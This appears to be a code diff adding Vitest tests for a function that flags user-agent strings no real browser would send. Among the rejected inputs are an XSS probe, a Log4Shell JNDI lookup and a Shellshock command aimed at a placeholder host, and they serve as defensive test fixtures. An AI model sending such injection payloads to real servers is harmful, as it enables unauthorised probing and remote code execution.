@@ -1,5 +1,5 @@
 import { expect, test } from "vitest";
-import { botKindOf, isBotAgent } from "./bots.ts";
+import { botKindOf, isBotAgent, isImpossibleAgent } from "./bots.ts";
 
 const phone = (model: string): string =>
   `Mozilla/5.0 (Linux; Android 10; ${model}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.45 Mobile Safari/537.36`;
@@ -56,4 +56,30 @@ test("who is a person has no kind, also where no user agent is known", () => {
     expect(isBotAgent(userAgent)).toBe(false);
     expect(botKindOf(userAgent)).toBeNull();
   }
+});
+
+test.each([
+  "",
+  "   ",
+  "<script>alert(1)</script>",
+  "${jndi:ldap://x.example/a}",
+  "() { :; }; /bin/ping -c 1 x.example",
+  "Mozilla/5.0 (Windows NT 10.0; iPhone; Win64) AppleWebKit/605.1.15",
+  "Mozilla/5.0 (Windows NT 12.0; Win64; x64) AppleWebKit/537.36 Chrome/131.0.0.0 Safari/537.36",
+  "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/9999.0.0.0 Safari/537.36",
+])("no browser sends %j", (userAgent) => {
+  expect(isImpossibleAgent(userAgent)).toBe(true);
+});
+
+test.each([
+  phone("K"),
+  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/460.0.0.31.103;FBDV/iPhone15,2;FBID/phone]",
+  "Mozilla/5.0 (Mobile; Windows Phone 8.1; Android 4.0; ARM; Trident/7.0; Touch; rv:11.0; IEMobile/11.0; NOKIA; Lumia 520) like iPhone OS 7_0_3 Mac OS X AppleWebKit/537 (KHTML, like Gecko) Mobile Safari/537",
+  "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; AS; rv:11.0) like Gecko",
+  "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
+  "Mozilla/5.0 (Macintosh; Intel Mac OS X 11.6; rv:95.0) Gecko/20100101 Firefox/95.0",
+  "Opera/9.80 (J2ME/MIDP; Opera Mini/9.80) Presto/2.12.423 Version/12.16",
+  "UCWEB/2.0 (MIDP-2.0; U; Adr 9.0.0; en_US) U2/1.0.0 UCBrowser/10.9",
+])("a browser, however odd, is one: %s", (userAgent) => {
+  expect(isImpossibleAgent(userAgent)).toBe(false);
 });
